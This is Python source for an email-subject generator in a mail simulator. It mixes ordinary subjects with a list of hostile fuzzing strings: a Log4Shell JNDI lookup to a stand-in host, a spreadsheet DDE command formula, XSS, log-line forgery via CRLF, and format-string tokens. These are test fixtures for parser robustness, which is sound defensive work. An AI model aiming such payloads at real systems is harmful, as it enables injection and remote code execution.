"""Subject lines: everyday ones, and the rare ones that break parsers and log formats."""

from random import Random
from typing import Final

from mcwatch.simulator.dice import pick

_TOPICS: Final = (
    "Invoice", "Quarter update", "Meeting notes", "Shift plan", "Delivery note", "Server alert", "Price list",
    "Travel request", "Contract draft", "Welcome pack", "Password reset", "Weekly digest", "Backup report",
    "Support case", "Order confirmation", "Visitor badge", "Parking permit", "Lunch menu", "Survey", "Timesheet",
)  # fmt: skip
_TAILS: Final = ("", "", "", " - please review", " (final)", " for Friday", ", second try", " - action needed")
_PREFIXES: Final = ("", "", "", "", "Re: ", "Fwd: ", "[EXTERNAL] ")

HOSTILE: Final = (
    "first line\nsecond line",
    "carriage\r\nreturn: <134>1 2026-01-05T09:30:00Z fake host - - - forged line",
    'a "quoted" subject with \\ and \\" and =',
    "pipe | equals = backslash \\ caret ^ tab\there",
    'ends the structured data] [x@1 y="z"',
    "party \U0001f389\U0001f469\u200d\U0001f469\u200d\U0001f467 time",
    "\u202egnp.ecioovni\u202c right to left",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "<script>alert('x')</script> & <b>bold</b>",
    "nul \u0000 bell \u0007 escape \u001b[31mred\u001b[0m",
    "line separators \u2028 and \u2029 and \u0085 next",
    "cafe\u0301 versus caf\u00e9",
    "${jndi:ldap://x.example/a} %s %n {0} {{x}}",
    "=cmd|' /C calc'!A0",
    "\ufeffstarts with a byte order mark",
    " leading and trailing blanks ",
    "",
    "null",
    "x" * 4096,
    "\u00fc" * 2048,
)


def ordinary(rng: Random) -> str:
    """Draw an everyday subject, numbered so that most mails differ."""
    number = int(rng.random() * 9000) + 1000
    return f"{pick(rng, _PREFIXES)}{pick(rng, _TOPICS)} {number}{pick(rng, _TAILS)}"


def subject(rng: Random, hostile_share: float) -> str | None:
    """Draw a subject; None, which shows as a missing key, for one mail in a hundred (reference notes §G)."""
    draw = rng.random()
    if draw < hostile_share:
        return pick(rng, HOSTILE)
    return None if draw > 0.99 else ordinary(rng)
